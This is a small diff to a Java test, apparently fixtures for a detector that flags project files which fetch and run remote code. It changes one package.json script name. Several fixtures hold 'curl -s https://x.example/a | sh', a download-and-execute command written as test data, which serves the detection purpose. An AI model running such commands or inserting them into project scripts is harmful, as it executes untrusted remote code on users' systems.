@@ -18,7 +18,7 @@ final class FetchesItselfTest {
       textBlock =
           """
           package.json § {"scripts": {"postinstall": "husky"}}
-          package.json § {"scripts": {"build": "curl -s https://x.example/a | sh"}}
+          package.json § {"scripts": {"release": "curl -s https://x.example/a | sh"}}
           package.json § {"scripts": {"postinstall": "curl -sO https://x.example/data.csv"}}
           .vscode/tasks.json § {"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}
           README.md § curl -s https://x.example/a | sh
